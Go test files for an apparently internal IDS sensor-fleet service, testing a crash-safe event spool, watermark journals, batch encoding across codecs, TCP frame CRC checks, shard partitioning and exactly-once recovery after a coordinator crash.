	if _, err := snappyDecode(enc, 1<<20); err == nil {
		t.Error("output beyond declared length accepted")
	}
}
