package fleet

import (
	"fmt"
	"sync"
	"testing"
	"time"

	"repro/internal/ids"
	"repro/internal/packet"
)

func testEvents(t testing.TB, n int) []ids.Event {
	t.Helper()
	out := make([]ids.Event, n)
	for i := range out {
		out[i] = ids.Event{
			Time:      time.Date(2021, 11, 1, 0, 0, 0, 0, time.UTC).Add(time.Duration(i) * time.Second),
			Src:       packet.Endpoint{Addr: packet.MustAddr(fmt.Sprintf("203.0.113.%d", 1+i%250)), Port: uint16(40000 + i%1000)},
			Dst:       packet.Endpoint{Addr: packet.MustAddr(fmt.Sprintf("18.204.7.%d", 1+i%200)), Port: 443},
			SID:       58722 + i%7,
			Published: time.Date(2021, 12, 10, 12, 0, 0, 123456789, time.UTC),
			Msg:       "SERVER-OTHER Apache Log4j logging remote code execution attempt",
			Bytes:     512 + i,
		}
		if i%5 != 4 {
			out[i].CVE = fmt.Sprintf("2021-%d", 44220+i%9)
		}
	}
	return out
}

func eventsEqual(a, b ids.Event) bool {
	return a.Time.Equal(b.Time) && a.Src == b.Src && a.Dst == b.Dst &&
		a.SID == b.SID && a.Published.Equal(b.Published) &&
		a.CVE == b.CVE && a.Msg == b.Msg && a.Bytes == b.Bytes
}

// memSink collects applied batches; optionally fails appends on demand.
type memSink struct {
	mu      sync.Mutex
	events  []ids.Event
	batches int
	failErr error
}

func (m *memSink) AppendBatch(events []ids.Event) error {
	m.mu.Lock()
	defer m.mu.Unlock()
	if m.failErr != nil {
		return m.failErr
	}
	m.events = append(m.events, events...)
	m.batches++
	return nil
}

func (m *memSink) snapshot() []ids.Event {
	m.mu.Lock()
	defer m.mu.Unlock()
	return append([]ids.Event(nil), m.events...)
}

func (m *memSink) len() int {
	m.mu.Lock()
	defer m.mu.Unlock()
	return len(m.events)
}
