package fleet

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"repro/internal/eventstore"
	"repro/internal/fault"
	"repro/internal/ids"
)

func TestSpoolAddAckRecover(t *testing.T) {
	dir := t.TempDir()
	sp, err := openSpool(nil, dir)
	if err != nil {
		t.Fatal(err)
	}
	events := testEvents(t, 30)
	for i := 0; i < 10; i++ {
		seq, err := sp.Add(events[i*3 : i*3+3])
		if err != nil {
			t.Fatal(err)
		}
		if seq != uint64(i+1) {
			t.Fatalf("batch %d assigned seq %d", i, seq)
		}
	}
	if sp.Depth() != 10 || sp.LastSeq() != 10 {
		t.Fatalf("depth %d lastSeq %d", sp.Depth(), sp.LastSeq())
	}
	if err := sp.AckTo(4); err != nil {
		t.Fatal(err)
	}
	if sp.Depth() != 6 || sp.Acked() != 4 {
		t.Fatalf("after ack: depth %d acked %d", sp.Depth(), sp.Acked())
	}
	// Stale (regressive) acks are no-ops.
	if err := sp.AckTo(2); err != nil {
		t.Fatal(err)
	}
	if sp.Acked() != 4 {
		t.Fatalf("ack regressed to %d", sp.Acked())
	}
	if err := sp.Close(); err != nil {
		t.Fatal(err)
	}

	// Reopen: acks are in-memory only, so all 10 batches replay; sequence
	// numbering continues where it left off.
	sp, err = openSpool(nil, dir)
	if err != nil {
		t.Fatal(err)
	}
	defer sp.Close()
	if sp.Depth() != 10 || sp.LastSeq() != 10 {
		t.Fatalf("recovered depth %d lastSeq %d", sp.Depth(), sp.LastSeq())
	}
	b, ok := sp.NextAfter(4)
	if !ok || b.seq != 5 || len(b.events) != 3 {
		t.Fatalf("NextAfter(4): ok=%v seq=%d n=%d", ok, b.seq, len(b.events))
	}
	if !eventsEqual(b.events[0], events[12]) {
		t.Fatalf("recovered batch 5 starts with %+v, want %+v", b.events[0], events[12])
	}
	if seq, err := sp.Add(events[:1]); err != nil || seq != 11 {
		t.Fatalf("post-recovery Add: seq=%d err=%v", seq, err)
	}
	if _, ok := sp.NextAfter(11); ok {
		t.Fatal("NextAfter past the end returned a batch")
	}
}

func TestSpoolTornTailTruncated(t *testing.T) {
	dir := t.TempDir()
	sp, err := openSpool(nil, dir)
	if err != nil {
		t.Fatal(err)
	}
	events := testEvents(t, 4)
	for i := 0; i < 4; i++ {
		if _, err := sp.Add(events[i : i+1]); err != nil {
			t.Fatal(err)
		}
	}
	if err := sp.Close(); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(dir, "spool.log")
	raw, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	// Tear mid-frame: drop the last 5 bytes (a crashed write).
	if err := os.WriteFile(path, raw[:len(raw)-5], 0o644); err != nil {
		t.Fatal(err)
	}
	sp, err = openSpool(nil, dir)
	if err != nil {
		t.Fatal(err)
	}
	defer sp.Close()
	if sp.Depth() != 3 || sp.LastSeq() != 3 {
		t.Fatalf("torn tail: depth %d lastSeq %d, want 3/3", sp.Depth(), sp.LastSeq())
	}
	// The torn batch's sequence is reassigned — redelivery, not loss.
	if seq, err := sp.Add(events[3:4]); err != nil || seq != 4 {
		t.Fatalf("re-add after tear: seq=%d err=%v", seq, err)
	}
}

// bigEvents returns n events whose encodings are ~sz bytes each, for
// exercising the frame cap.
func bigEvents(t testing.TB, n, sz int) []ids.Event {
	t.Helper()
	out := testEvents(t, n)
	msg := strings.Repeat("x", sz)
	for i := range out {
		out[i].Msg = msg
	}
	return out
}

// TestSpoolSplitsOversizedAdd: one Add whose encoding exceeds the recovery
// scan limit must split into several frames, each readable back — written
// as a single frame it would be truncated as corruption on reopen, silently
// dropping the batch and every later one.
func TestSpoolSplitsOversizedAdd(t *testing.T) {
	dir := t.TempDir()
	sp, err := openSpool(nil, dir)
	if err != nil {
		t.Fatal(err)
	}
	// ~40 events x ~60KB ≈ 2.4MB encoded: needs at least 3 frames.
	events := bigEvents(t, 40, 60<<10)
	last, err := sp.Add(events)
	if err != nil {
		t.Fatal(err)
	}
	if last < 3 {
		t.Fatalf("2.4MB batch fit in %d frame(s); the cap is not splitting", last)
	}
	if sp.Depth() != int(last) {
		t.Fatalf("depth %d, want %d", sp.Depth(), last)
	}
	if err := sp.Close(); err != nil {
		t.Fatal(err)
	}

	// Recovery must see every split frame and every event, in order.
	sp, err = openSpool(nil, dir)
	if err != nil {
		t.Fatal(err)
	}
	defer sp.Close()
	if sp.LastSeq() != last || sp.Depth() != int(last) {
		t.Fatalf("recovered lastSeq=%d depth=%d, want %d/%d", sp.LastSeq(), sp.Depth(), last, last)
	}
	var got []ids.Event
	for seq := uint64(0); ; {
		b, ok := sp.NextAfter(seq)
		if !ok {
			break
		}
		got = append(got, b.events...)
		seq = b.seq
	}
	if len(got) != len(events) {
		t.Fatalf("recovered %d events, want %d", len(got), len(events))
	}
	for i := range got {
		if !eventsEqual(got[i], events[i]) {
			t.Fatalf("event %d corrupted across the split", i)
		}
	}
}

// TestSpoolAddDoesNotAliasCaller: the spool must copy what it retains; a
// caller that reuses its batch slice must not corrupt pending batches.
func TestSpoolAddDoesNotAliasCaller(t *testing.T) {
	dir := t.TempDir()
	sp, err := openSpool(nil, dir)
	if err != nil {
		t.Fatal(err)
	}
	defer sp.Close()
	events := testEvents(t, 3)
	batch := append([]ids.Event(nil), events...)
	if _, err := sp.Add(batch); err != nil {
		t.Fatal(err)
	}
	batch[0].Msg = "clobbered"
	b, ok := sp.NextAfter(0)
	if !ok || !eventsEqual(b.events[0], events[0]) {
		t.Fatalf("pending batch aliased the caller's slice: %+v", b.events[0])
	}
}

// TestSpoolRefusesIntactOversizedFrame: a complete CRC-valid frame beyond
// the scan limit is real data, not a torn tail; open must fail loudly
// rather than truncate it (and everything after it) away.
func TestSpoolRefusesIntactOversizedFrame(t *testing.T) {
	dir := t.TempDir()
	sp, err := openSpool(nil, dir)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := sp.Add(testEvents(t, 2)); err != nil {
		t.Fatal(err)
	}
	if err := sp.Close(); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(dir, "spool.log")
	raw, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	oversize := eventstore.AppendFrame(raw, make([]byte, spoolMaxPayload+1))
	if err := os.WriteFile(path, oversize, 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := openSpool(nil, dir); err == nil {
		t.Fatal("spool with an intact oversized frame opened (and truncated it) silently")
	}
	// A torn oversize frame is still just a torn tail: recoverable.
	if err := os.WriteFile(path, oversize[:len(oversize)-64], 0o644); err != nil {
		t.Fatal(err)
	}
	sp, err = openSpool(nil, dir)
	if err != nil {
		t.Fatalf("torn oversized tail not truncated: %v", err)
	}
	sp.Close()
}

// TestSpoolAdoptsForeignWatermark: when the coordinator's watermark is ahead
// of everything this spool remembers (sensor state lost), AckTo must adopt
// that numbering — otherwise fresh batches would reuse applied sequences and
// be dropped as duplicates forever.
func TestSpoolAdoptsForeignWatermark(t *testing.T) {
	sp, err := openSpool(nil, t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	defer sp.Close()
	if err := sp.AckTo(7); err != nil {
		t.Fatal(err)
	}
	if sp.LastSeq() != 7 {
		t.Fatalf("lastSeq %d after adopting watermark 7", sp.LastSeq())
	}
	seq, err := sp.Add(testEvents(t, 1))
	if err != nil {
		t.Fatal(err)
	}
	if seq != 8 {
		t.Fatalf("next batch got seq %d, want 8 (would be dropped as a duplicate)", seq)
	}
}

func TestSpoolRejectsForeignFile(t *testing.T) {
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "spool.log"), []byte("not a spool at all"), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := openSpool(nil, dir); err == nil {
		t.Fatal("foreign file opened as spool")
	}
}

func TestSpoolCompaction(t *testing.T) {
	dir := t.TempDir()
	sp, err := openSpool(nil, dir)
	if err != nil {
		t.Fatal(err)
	}
	defer sp.Close()
	// Each batch is ~60KB encoded; ack enough to cross the 4MB trigger.
	events := testEvents(t, 500)
	var last uint64
	for i := 0; i < 120; i++ {
		seq, err := sp.Add(events)
		if err != nil {
			t.Fatal(err)
		}
		last = seq
	}
	before, err := os.Stat(filepath.Join(dir, "spool.log"))
	if err != nil {
		t.Fatal(err)
	}
	if err := sp.AckTo(last - 1); err != nil {
		t.Fatal(err)
	}
	after, err := os.Stat(filepath.Join(dir, "spool.log"))
	if err != nil {
		t.Fatal(err)
	}
	if after.Size() >= before.Size() {
		t.Fatalf("compaction did not shrink the log: %d -> %d", before.Size(), after.Size())
	}
	// The surviving batch is intact and appends continue.
	b, ok := sp.NextAfter(last - 1)
	if !ok || b.seq != last || len(b.events) != len(events) {
		t.Fatalf("post-compaction batch: ok=%v seq=%d n=%d", ok, b.seq, len(b.events))
	}
	if seq, err := sp.Add(events[:1]); err != nil || seq != last+1 {
		t.Fatalf("post-compaction Add: seq=%d err=%v", seq, err)
	}
}

func TestWatermarksAdvanceRecoverCompact(t *testing.T) {
	dir := t.TempDir()
	w, err := OpenWatermarks(dir)
	if err != nil {
		t.Fatal(err)
	}
	if w.Get("nope") != 0 {
		t.Fatal("unknown sensor has nonzero watermark")
	}
	for seq := uint64(1); seq <= 5; seq++ {
		if err := w.Advance("s1", seq); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Advance("s2", 100); err != nil {
		t.Fatal(err)
	}
	if err := w.Advance("s1", 5); err == nil {
		t.Fatal("non-advancing watermark accepted")
	}
	if err := w.Advance("s1", 3); err == nil {
		t.Fatal("regressing watermark accepted")
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}

	w, err = OpenWatermarks(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer w.Close()
	if got := w.All(); len(got) != 2 || got["s1"] != 5 || got["s2"] != 100 {
		t.Fatalf("recovered marks %v", got)
	}

	// Torn tail: drop bytes off the journal; earlier records still recover.
	path := filepath.Join(dir, "FLEET-WATERMARKS.log")
	raw, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	w.Close()
	if err := os.WriteFile(path, raw[:len(raw)-3], 0o644); err != nil {
		t.Fatal(err)
	}
	w, err = OpenWatermarks(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer w.Close()
	if w.Get("s1") != 5 {
		t.Fatalf("torn journal lost s1: %d", w.Get("s1"))
	}
	// s2's single record was the tail and is gone — its batches redeliver.
	if w.Get("s2") != 0 {
		t.Fatalf("torn tail kept s2 at %d", w.Get("s2"))
	}
}

// TestSpoolCompactAbortLeaksNothing drives compaction into every failure
// branch (tmp create, copy, fsync, rename) on a simulated filesystem and
// asserts each abort leaves no stranded spool.tmp and no leaked handle —
// then that the spool still compacts and serves batches once the fault
// clears. A leaked tmp would shadow the next compaction's rename; a leaked
// handle is a descriptor exhausted per ENOSPC retry.
func TestSpoolCompactAbortLeaksNothing(t *testing.T) {
	fs := fault.NewSimFS(1, fault.Profile{})
	sp, err := openSpool(fs, "spool")
	if err != nil {
		t.Fatal(err)
	}
	defer sp.Close()
	events := testEvents(t, 50)
	var last uint64
	for i := 0; i < 4; i++ {
		if last, err = sp.Add(events); err != nil {
			t.Fatal(err)
		}
	}
	if err := sp.AckTo(last - 1); err != nil {
		t.Fatal(err)
	}
	baseline := fs.OpenHandles()
	for _, op := range []string{"open", "write", "sync", "rename"} {
		fs.FailWith(func(o, name string) error {
			if o == op && strings.HasSuffix(name, ".tmp") {
				return fault.ErrInjected
			}
			return nil
		})
		sp.mu.Lock()
		err := sp.compactLocked()
		sp.mu.Unlock()
		if !errors.Is(err, fault.ErrInjected) {
			t.Fatalf("compact with %s fault: err=%v, want injected", op, err)
		}
		for _, name := range fs.Files() {
			if strings.HasSuffix(name, ".tmp") {
				t.Fatalf("compact aborted at %s stranded %s", op, name)
			}
		}
		if got := fs.OpenHandles(); got != baseline {
			t.Fatalf("compact aborted at %s leaked handles: %d, want %d", op, got, baseline)
		}
	}
	fs.FailWith(nil)
	sp.mu.Lock()
	err = sp.compactLocked()
	sp.mu.Unlock()
	if err != nil {
		t.Fatalf("compact after faults cleared: %v", err)
	}
	if b, ok := sp.NextAfter(last - 1); !ok || b.seq != last || len(b.events) != len(events) {
		t.Fatalf("post-compaction batch: ok=%v seq=%d n=%d", ok, b.seq, len(b.events))
	}
	if _, err := sp.Add(events[:1]); err != nil {
		t.Fatalf("post-compaction Add: %v", err)
	}
}
