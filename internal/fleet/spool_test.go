package fleet

import (
	"os"
	"path/filepath"
	"testing"
)

func TestSpoolAddAckRecover(t *testing.T) {
	dir := t.TempDir()
	sp, err := openSpool(dir)
	if err != nil {
		t.Fatal(err)
	}
	events := testEvents(t, 30)
	for i := 0; i < 10; i++ {
		seq, err := sp.Add(events[i*3 : i*3+3])
		if err != nil {
			t.Fatal(err)
		}
		if seq != uint64(i+1) {
			t.Fatalf("batch %d assigned seq %d", i, seq)
		}
	}
	if sp.Depth() != 10 || sp.LastSeq() != 10 {
		t.Fatalf("depth %d lastSeq %d", sp.Depth(), sp.LastSeq())
	}
	if err := sp.AckTo(4); err != nil {
		t.Fatal(err)
	}
	if sp.Depth() != 6 || sp.Acked() != 4 {
		t.Fatalf("after ack: depth %d acked %d", sp.Depth(), sp.Acked())
	}
	// Stale (regressive) acks are no-ops.
	if err := sp.AckTo(2); err != nil {
		t.Fatal(err)
	}
	if sp.Acked() != 4 {
		t.Fatalf("ack regressed to %d", sp.Acked())
	}
	if err := sp.Close(); err != nil {
		t.Fatal(err)
	}

	// Reopen: acks are in-memory only, so all 10 batches replay; sequence
	// numbering continues where it left off.
	sp, err = openSpool(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer sp.Close()
	if sp.Depth() != 10 || sp.LastSeq() != 10 {
		t.Fatalf("recovered depth %d lastSeq %d", sp.Depth(), sp.LastSeq())
	}
	b, ok := sp.NextAfter(4)
	if !ok || b.seq != 5 || len(b.events) != 3 {
		t.Fatalf("NextAfter(4): ok=%v seq=%d n=%d", ok, b.seq, len(b.events))
	}
	if !eventsEqual(b.events[0], events[12]) {
		t.Fatalf("recovered batch 5 starts with %+v, want %+v", b.events[0], events[12])
	}
	if seq, err := sp.Add(events[:1]); err != nil || seq != 11 {
		t.Fatalf("post-recovery Add: seq=%d err=%v", seq, err)
	}
	if _, ok := sp.NextAfter(11); ok {
		t.Fatal("NextAfter past the end returned a batch")
	}
}

func TestSpoolTornTailTruncated(t *testing.T) {
	dir := t.TempDir()
	sp, err := openSpool(dir)
	if err != nil {
		t.Fatal(err)
	}
	events := testEvents(t, 4)
	for i := 0; i < 4; i++ {
		if _, err := sp.Add(events[i : i+1]); err != nil {
			t.Fatal(err)
		}
	}
	if err := sp.Close(); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(dir, "spool.log")
	raw, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	// Tear mid-frame: drop the last 5 bytes (a crashed write).
	if err := os.WriteFile(path, raw[:len(raw)-5], 0o644); err != nil {
		t.Fatal(err)
	}
	sp, err = openSpool(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer sp.Close()
	if sp.Depth() != 3 || sp.LastSeq() != 3 {
		t.Fatalf("torn tail: depth %d lastSeq %d, want 3/3", sp.Depth(), sp.LastSeq())
	}
	// The torn batch's sequence is reassigned — redelivery, not loss.
	if seq, err := sp.Add(events[3:4]); err != nil || seq != 4 {
		t.Fatalf("re-add after tear: seq=%d err=%v", seq, err)
	}
}

func TestSpoolRejectsForeignFile(t *testing.T) {
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "spool.log"), []byte("not a spool at all"), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := openSpool(dir); err == nil {
		t.Fatal("foreign file opened as spool")
	}
}

func TestSpoolCompaction(t *testing.T) {
	dir := t.TempDir()
	sp, err := openSpool(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer sp.Close()
	// Each batch is ~60KB encoded; ack enough to cross the 4MB trigger.
	events := testEvents(t, 500)
	var last uint64
	for i := 0; i < 120; i++ {
		seq, err := sp.Add(events)
		if err != nil {
			t.Fatal(err)
		}
		last = seq
	}
	before, err := os.Stat(filepath.Join(dir, "spool.log"))
	if err != nil {
		t.Fatal(err)
	}
	if err := sp.AckTo(last - 1); err != nil {
		t.Fatal(err)
	}
	after, err := os.Stat(filepath.Join(dir, "spool.log"))
	if err != nil {
		t.Fatal(err)
	}
	if after.Size() >= before.Size() {
		t.Fatalf("compaction did not shrink the log: %d -> %d", before.Size(), after.Size())
	}
	// The surviving batch is intact and appends continue.
	b, ok := sp.NextAfter(last - 1)
	if !ok || b.seq != last || len(b.events) != len(events) {
		t.Fatalf("post-compaction batch: ok=%v seq=%d n=%d", ok, b.seq, len(b.events))
	}
	if seq, err := sp.Add(events[:1]); err != nil || seq != last+1 {
		t.Fatalf("post-compaction Add: seq=%d err=%v", seq, err)
	}
}

func TestWatermarksAdvanceRecoverCompact(t *testing.T) {
	dir := t.TempDir()
	w, err := OpenWatermarks(dir)
	if err != nil {
		t.Fatal(err)
	}
	if w.Get("nope") != 0 {
		t.Fatal("unknown sensor has nonzero watermark")
	}
	for seq := uint64(1); seq <= 5; seq++ {
		if err := w.Advance("s1", seq); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Advance("s2", 100); err != nil {
		t.Fatal(err)
	}
	if err := w.Advance("s1", 5); err == nil {
		t.Fatal("non-advancing watermark accepted")
	}
	if err := w.Advance("s1", 3); err == nil {
		t.Fatal("regressing watermark accepted")
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}

	w, err = OpenWatermarks(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer w.Close()
	if got := w.All(); len(got) != 2 || got["s1"] != 5 || got["s2"] != 100 {
		t.Fatalf("recovered marks %v", got)
	}

	// Torn tail: drop bytes off the journal; earlier records still recover.
	path := filepath.Join(dir, "FLEET-WATERMARKS.log")
	raw, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	w.Close()
	if err := os.WriteFile(path, raw[:len(raw)-3], 0o644); err != nil {
		t.Fatal(err)
	}
	w, err = OpenWatermarks(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer w.Close()
	if w.Get("s1") != 5 {
		t.Fatalf("torn journal lost s1: %d", w.Get("s1"))
	}
	// s2's single record was the tail and is gone — its batches redeliver.
	if w.Get("s2") != 0 {
		t.Fatalf("torn tail kept s2 at %d", w.Get("s2"))
	}
}
