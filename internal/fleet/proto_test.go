package fleet

import (
	"bytes"
	"net"
	"net/netip"
	"strings"
	"testing"

	"repro/internal/eventstore"
)

func TestHelloRoundtrip(t *testing.T) {
	in := hello{Version: ProtocolVersion, SensorID: "sensor-α/2", ShardIndex: 2, ShardCount: 3, Codec: CodecDeflate}
	got, err := decodeHello(in.encode())
	if err != nil {
		t.Fatal(err)
	}
	if got != in {
		t.Fatalf("got %+v want %+v", got, in)
	}

	bad := []hello{
		{Version: ProtocolVersion + 1, SensorID: "s", ShardCount: 1},            // version skew
		{Version: ProtocolVersion, SensorID: "", ShardCount: 1},                 // anonymous
		{Version: ProtocolVersion, SensorID: "s", ShardIndex: 3, ShardCount: 3}, // shard out of range
		{Version: ProtocolVersion, SensorID: "s", ShardCount: 0},                // zero shards
	}
	for i, h := range bad {
		if _, err := decodeHello(h.encode()); err == nil {
			t.Errorf("case %d: bad hello %+v accepted", i, h)
		}
	}
	if _, err := decodeHello(append(in.encode(), 0x00)); err == nil {
		t.Error("stray trailing byte accepted")
	}
	if _, err := decodeHello(in.encode()[:5]); err == nil {
		t.Error("truncated hello accepted")
	}
}

func TestHelloAckAndAckRoundtrip(t *testing.T) {
	ha := helloAck{Version: ProtocolVersion, Watermark: 1<<42 + 7}
	got, err := decodeHelloAck(ha.encode())
	if err != nil {
		t.Fatal(err)
	}
	if got != ha {
		t.Fatalf("got %+v want %+v", got, ha)
	}
	if _, err := decodeHelloAck((&helloAck{Version: 9}).encode()); err == nil {
		t.Error("version skew accepted")
	}

	w, err := decodeAck(encodeAck(12345))
	if err != nil {
		t.Fatal(err)
	}
	if w != 12345 {
		t.Fatalf("ack watermark %d", w)
	}
	// Wrong message type in the right shape.
	if _, err := decodeAck((&helloAck{Version: ProtocolVersion}).encode()); err == nil {
		t.Error("HelloAck decoded as Ack")
	}
}

func TestHeartbeatRoundtrip(t *testing.T) {
	in := heartbeat{NextSeq: 99, Spooled: 7, IngestLag: -1}
	got, err := decodeHeartbeat(in.encode())
	if err != nil {
		t.Fatal(err)
	}
	if got != in {
		t.Fatalf("got %+v want %+v", got, in)
	}
}

func TestBatchRoundtripAllCodecs(t *testing.T) {
	events := testEvents(t, 123)
	for _, codec := range []Codec{CodecRaw, CodecDeflate, CodecSnappy} {
		t.Run(codec.String(), func(t *testing.T) {
			wire, err := encodeBatch(42, events, codec)
			if err != nil {
				t.Fatal(err)
			}
			got, err := decodeBatch(wire)
			if err != nil {
				t.Fatal(err)
			}
			if got.Seq != 42 || len(got.Events) != len(events) {
				t.Fatalf("seq %d, %d events", got.Seq, len(got.Events))
			}
			for i := range events {
				if !eventsEqual(got.Events[i], events[i]) {
					t.Fatalf("event %d:\n got %+v\nwant %+v", i, got.Events[i], events[i])
				}
			}
			if codec != CodecRaw {
				raw, _ := encodeBatch(42, events, CodecRaw)
				if len(wire) >= len(raw) {
					t.Errorf("%v batch no smaller than raw: %d vs %d", codec, len(wire), len(raw))
				}
			}
		})
	}

	// Empty batch (heartbeat-like) still roundtrips.
	wire, err := encodeBatch(1, nil, CodecSnappy)
	if err != nil {
		t.Fatal(err)
	}
	if got, err := decodeBatch(wire); err != nil || got.Seq != 1 || len(got.Events) != 0 {
		t.Fatalf("empty batch: %v %+v", err, got)
	}
}

func TestBatchDecodeRejectsCorrupt(t *testing.T) {
	events := testEvents(t, 20)
	wire, err := encodeBatch(7, events, CodecSnappy)
	if err != nil {
		t.Fatal(err)
	}
	// Flip one compressed byte: either snappy or the event codec must object.
	mut := append([]byte(nil), wire...)
	mut[len(mut)-3] ^= 0xff
	if got, err := decodeBatch(mut); err == nil {
		for i := range got.Events {
			if i < len(events) && !eventsEqual(got.Events[i], events[i]) {
				return // corruption surfaced as a decode difference — acceptable only if erred; fail below
			}
		}
		t.Error("corrupted batch decoded cleanly to identical events")
	}
	// Over-declared raw length.
	huge, _ := encodeBatch(7, events, CodecRaw)
	copy(huge[14:18], []byte{0xff, 0xff, 0xff, 0xff})
	if _, err := decodeBatch(huge); err == nil {
		t.Error("4GB raw-length declaration accepted")
	}
	// Count mismatch.
	lie, _ := encodeBatch(7, events, CodecRaw)
	lie[10]++ // count field (offset: 1 type + 8 seq + 1 codec)
	if _, err := decodeBatch(lie); err == nil {
		t.Error("event count lie accepted")
	}
	// Unknown codec.
	unk, _ := encodeBatch(7, events, CodecRaw)
	unk[9] = 99
	if _, err := decodeBatch(unk); err == nil {
		t.Error("unknown codec accepted")
	}
}

// TestFrameOverTCP exercises the framing against a real socket, including
// CRC rejection of a corrupted frame.
func TestFrameOverTCP(t *testing.T) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	payload := bytes.Repeat([]byte("framed "), 100)
	go func() {
		conn, err := ln.Accept()
		if err != nil {
			return
		}
		defer conn.Close()
		writeFrame(conn, payload)
		// Second frame: valid header, one payload byte flipped -> CRC mismatch.
		frame := eventstore.AppendFrame(nil, payload)
		frame[8] ^= 0xff
		conn.Write(frame)
	}()
	conn, err := net.Dial("tcp", ln.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	got, err := readFrame(conn, nil)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, payload) {
		t.Fatal("frame changed in flight")
	}
	if _, err := readFrame(conn, got); err == nil || !strings.Contains(err.Error(), "CRC") {
		t.Fatalf("corrupt frame gave %v, want CRC error", err)
	}
}

func TestShardOfPartitions(t *testing.T) {
	const n = 3
	counts := make([]int, n)
	for i := 0; i < 1000; i++ {
		addr := netip.AddrFrom4([4]byte{18, 204, byte(i >> 8), byte(i)})
		s := ShardOf(addr, n)
		if s < 0 || s >= n {
			t.Fatalf("shard %d out of range", s)
		}
		if again := ShardOf(addr, n); again != s {
			t.Fatal("ShardOf not deterministic")
		}
		counts[s]++
	}
	for s, c := range counts {
		if c < 200 {
			t.Errorf("shard %d got only %d/1000 addresses", s, c)
		}
	}
	if ShardOf(netip.AddrFrom4([4]byte{1, 2, 3, 4}), 1) != 0 ||
		ShardOf(netip.AddrFrom4([4]byte{1, 2, 3, 4}), 0) != 0 {
		t.Error("degenerate shard counts must map to 0")
	}
}
