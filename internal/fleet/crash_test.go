package fleet

import (
	"net"
	"testing"
	"time"

	"repro/internal/eventstore"
	"repro/internal/ids"
)

// TestCrashBetweenAppendAndGroupCommit kills the coordinator in the exact
// window group commit opens: a batch appended to the event store but whose
// commit (and therefore ack) never happened. The contract under test is the
// exactly-once boundary from both sides — the acked batch survives the
// crash, the unacked batch is rolled back on restart and redelivery applies
// it exactly once.
func TestCrashBetweenAppendAndGroupCommit(t *testing.T) {
	dir := t.TempDir()
	store, err := eventstore.Open(dir, eventstore.Options{Shards: 4})
	if err != nil {
		t.Fatal(err)
	}
	events := testEvents(t, 20)

	dial := func(addr string) (net.Conn, uint64) {
		t.Helper()
		conn, err := net.Dial("tcp", addr)
		if err != nil {
			t.Fatal(err)
		}
		h := hello{Version: ProtocolVersion, SensorID: "cc-1", ShardCount: 1}
		if err := writeFrame(conn, h.encode()); err != nil {
			t.Fatal(err)
		}
		frame, err := readFrame(conn, nil)
		if err != nil {
			t.Fatal(err)
		}
		ack, err := decodeHelloAck(frame)
		if err != nil {
			t.Fatal(err)
		}
		return conn, ack.Watermark
	}
	send := func(conn net.Conn, seq uint64, evs []ids.Event) {
		t.Helper()
		wire, err := encodeBatch(seq, evs, CodecSnappy)
		if err != nil {
			t.Fatal(err)
		}
		if err := writeFrame(conn, wire); err != nil {
			t.Fatal(err)
		}
	}
	readAck := func(conn net.Conn) uint64 {
		t.Helper()
		conn.SetReadDeadline(time.Now().Add(10 * time.Second))
		frame, err := readFrame(conn, nil)
		if err != nil {
			t.Fatal(err)
		}
		w, err := decodeAck(frame)
		if err != nil {
			t.Fatal(err)
		}
		return w
	}
	listen := func(sink Sink, interval time.Duration) *Listener {
		t.Helper()
		ln, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		l, err := Listen(ListenerConfig{Listener: ln, Sink: sink, Dir: dir, CommitInterval: interval})
		if err != nil {
			t.Fatal(err)
		}
		return l
	}

	// Phase 1: batch 1 flows through a normal listener — appended, group
	// committed, acked. This is the state the crash must not touch.
	l1 := listen(store, 0)
	conn1, w := dial(l1.Addr().String())
	if w != 0 {
		t.Fatalf("fresh handshake watermark %d", w)
	}
	send(conn1, 1, events[:10])
	if w := readAck(conn1); w != 1 {
		t.Fatalf("ack %d, want 1", w)
	}
	conn1.Close()
	if err := l1.Close(); err != nil {
		t.Fatal(err)
	}

	// Phase 2: an hour-long commit interval holds the group open, so batch 2
	// is appended to the store but its commit — and ack — never happen.
	l2 := listen(store, time.Hour)
	conn2, w := dial(l2.Addr().String())
	if w != 1 {
		t.Fatalf("restart handshake watermark %d, want 1", w)
	}
	send(conn2, 2, events[10:])
	deadline := time.Now().Add(10 * time.Second)
	for store.Len() != 20 {
		if time.Now().After(deadline) {
			t.Fatalf("batch 2 never appended (store holds %d events)", store.Len())
		}
		time.Sleep(time.Millisecond)
	}
	conn2.Close()
	// Kill the coordinator inside the window: tear down without committing.
	// The store object is abandoned with it — crucially, never Close()d,
	// since Close is itself a commit.
	if err := l2.abandon(); err != nil {
		t.Fatal(err)
	}

	// Restart: recovery must truncate the unacked batch (its events were
	// never promised durable) while keeping everything acked.
	recovered, err := eventstore.Open(dir, eventstore.Options{Shards: 4})
	if err != nil {
		t.Fatal(err)
	}
